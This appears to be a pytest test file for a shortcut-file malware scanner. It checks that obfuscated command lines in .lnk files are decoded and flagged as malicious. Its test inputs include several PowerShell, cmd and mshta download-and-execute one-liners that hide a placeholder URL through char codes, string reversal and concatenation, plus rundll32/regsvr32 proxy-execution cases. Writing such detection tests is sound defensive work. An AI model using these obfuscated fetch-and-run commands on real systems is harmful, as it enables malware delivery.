"""Command lines of shortcuts that are carried out: what they come to is told, and judged like what stands there."""

import pytest

from emotriage import Level, scan
from emotriage.testing import shortcut

SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
ADDRESS = "http://a.emotriage.invalid/x"
LETTERS = ",".join(str(ord(one)) for one in ADDRESS)


def look(target: str, arguments: str):
    return scan(shortcut(target, arguments), name="invoice.lnk", plugins=[])


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        (POWERSHELL, f'-c "$a=-join([char[]]({LETTERS}));iwr $a -OutFile $env:temp\\a.ps1"'),
        (POWERSHELL, "-c \"$a='x/dilavni.egairtome.a//:ptth'.ToCharArray();[array]::Reverse($a);iwr (-join $a)\""),
        (POWERSHELL, "-c \"(New-Object Net.WebClient).DownloadString('http://a.emo'+'triage.invalid/x')\""),
        (SYSTEM + "cmd.exe", '/v /c "set a=http://a.emo&&set b=triage.invalid/x&&mshta !a!!b!"'),
        (
            SYSTEM + "mshta.exe",
            'vbscript:CreateObject("WScript.Shell").Run("mshta http://a.emo" & "triage.invalid/x")(window.close)',
        ),
    ],
)
def test_an_address_that_stands_nowhere_is_told(target, arguments):
    assert ADDRESS not in arguments
    verdict = look(target, arguments)
    assert any(ADDRESS in one.value for one in verdict.indicators), verdict.indicators
    assert verdict.level is Level.MALICIOUS


def test_a_script_that_is_written_is_looked_at():
    code = "execute chr(65) & chr(66) emotriage-inert"
    verdict = look(POWERSHELL, f"-c \"Set-Content $env:temp\\a.vbs '{code}'; & $env:temp\\a.vbs\"")
    assert any(one.name == "a.vbs" for one in verdict.artifacts)


@pytest.mark.parametrize("tool", ["rundll32.exe", "regsvr32.exe"])
def test_a_library_beside_the_shortcut(tool):
    verdict = look(SYSTEM + tool, "project.dll,Start" if tool < "s" and "rundll" in tool else "/s project.dll")
    assert "lnk.proxy-execution" in {one.rule for one in verdict.findings}
    honest = look(SYSTEM + tool, "shell32.dll,Control_RunDLL" if "rundll" in tool else "/s C:\\Windows\\a.dll")
    assert "lnk.proxy-execution" not in {one.rule for one in honest.findings}


def test_the_story_and_the_texts_of_a_command():
    verdict = look(POWERSHELL, f'-c "$a=-join([char[]]({LETTERS}));iwr $a -OutFile $env:temp\\a.ps1"')
    assert ("fetch", ADDRESS) in {(one.action, one.text) for one in verdict.steps}
